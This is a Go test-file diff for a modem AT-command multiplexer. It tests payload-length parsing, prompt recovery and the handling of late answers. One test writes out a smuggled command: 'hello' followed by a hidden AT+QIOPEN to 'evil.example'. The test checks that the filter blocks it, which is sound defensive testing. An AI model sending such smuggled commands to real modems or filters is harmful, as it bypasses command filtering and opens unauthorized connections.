@@ -13,6 +13,7 @@ import (
 	"time"
 
 	"github.com/modemguard/modemguard/atcmd"
+	"github.com/modemguard/modemguard/atcmd/atcmdtest"
 	"github.com/modemguard/modemguard/simulator"
 )
 
@@ -229,4 +230,96 @@ func FuzzMuxModemOutput(f *testing.F) {
 		_, _ = modemDev.Write(a)
 		_, _ = modemDev.Write(b)
 	})
+}
+
+// TestMuxCountedPayload: bytes after a counted payload are command lines
+// again and pass the filter (review finding: "helloAT+CFUN=1" in one write).
+func TestMuxCountedPayload(t *testing.T) {
+	r := newMuxRig(t)
+	c := r.client
+	c.send(`AT+QIOPEN=1,0,"TCP","broker.example.com",8883,0,1` + "\r")
+	c.until("OK\r\n")
+	c.send("AT+QISEND=0,5\r")
+	c.until("> ")
+	c.send(`helloAT+QIOPEN=1,1,"TCP","evil.example",443,0,1` + "\r")
+	c.until("+CME ERROR: 3\r\n")
+	for _, l := range r.sim.Received() {
+		if strings.Contains(l, "evil.example") {
+			t.Fatalf("a line hidden after a counted payload reached the module: %q", r.sim.Received())
+		}
+	}
+}
+
+// TestMuxHostLeavesAtPrompt: a host that leaves the module in text entry
+// does not lock the agent out (review finding 3).
+func TestMuxHostLeavesAtPrompt(t *testing.T) {
+	r := newMuxRig(t)
+	c := r.client
+	c.send("AT+CMGF=1\r")
+	c.until("OK\r\n")
+	c.send(`AT+CMGS="+15550100"` + "\r")
+	c.until("> ")
+	c.conn.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	if err := r.agent.Sync(ctx); err != nil {
+		t.Fatalf("the agent cannot sync after a host left at the prompt: %v", err)
+	}
+	resp, err := r.agent.Command(ctx, "AT+CGMI")
+	if err != nil || len(resp.Lines) != 1 || resp.Lines[0] != "Quectel" {
+		t.Fatalf("AT+CGMI = %q, %v; module received %q", resp.Lines, err, r.sim.Received())
+	}
+	if sms := r.sim.SentSMS(); len(sms) != 0 {
+		t.Errorf("the agent's probes became a message: %+v", sms)
+	}
+}
+
+func TestPayloadLength(t *testing.T) {
+	for line, want := range map[string]int{
+		"AT+QISEND=0,5": 5, "AT+QISEND=0": -1, `AT+QHTTPURL=20,80`: 20, "AT+CIPSEND=1,12": 12, "AT+CIPSEND=7": 7,
+		`AT+CMGS="+1555"`: -1, `AT+QMTPUBEX=0,1,1,0,"t/x",42`: 42, "AT+CSQ": -1, "AT+QISEND=0,x": -1,
+	} {
+		if got := atcmd.PayloadLengthForTest(line); got != want {
+			t.Errorf("payloadLength(%q) = %d, want %d", line, got, want)
+		}
+	}
+}
+
+// TestMuxLateAnswerAfterGiveUp: the mux gives up on a slow command; its
+// late answer must not complete the next host's command (review finding 5).
+func TestMuxLateAnswerAfterGiveUp(t *testing.T) {
+	var m *atcmdtest.Modem
+	m = atcmdtest.NewModem(atcmdtest.ScriptFunc(func(line string) []byte {
+		switch line {
+		case "AT+SLOW":
+			return nil
+		case "AT":
+			// The abandoned command's answer arrives just as the probe goes out.
+			return []byte("\r\nSLOW-ANSWER\r\n\r\nOK\r\n\r\nOK\r\n")
+		case "AT+CGSN":
+			return []byte("\r\n353465070085319\r\n\r\nOK\r\n")
+		}
+		return []byte("\r\nERROR\r\n")
+	}), atcmdtest.ModemOptions{})
+	mux := atcmd.NewMux(m, atcmd.MuxConfig{Timeout: func(line string) time.Duration {
+		if line == "AT+SLOW" {
+			return 200 * time.Millisecond
+		}
+		return 5 * time.Second
+	}})
+	defer mux.Close()
+	cHost, cMux := net.Pipe()
+	defer cHost.Close()
+	mux.Attach(cMux, atcmd.MuxHost{Name: "client", Unsolicited: true})
+	aHost, aMux := net.Pipe()
+	mux.Attach(aMux, atcmd.MuxHost{Name: "agent", Unsolicited: true})
+	agent := atcmd.New(aHost, atcmd.Config{})
+	defer agent.Close()
+	c := &client{t: t, conn: cHost}
+	c.send("AT+SLOW\r")
+	c.until("ERROR\r\n") // the mux tells the host it gave up
+	resp, err := agent.Command(context.Background(), "AT+CGSN")
+	if err != nil || len(resp.Lines) != 1 || resp.Lines[0] != "353465070085319" {
+		t.Fatalf("agent AT+CGSN = %q, %v: a late answer leaked", resp.Lines, err)
+	}
 }
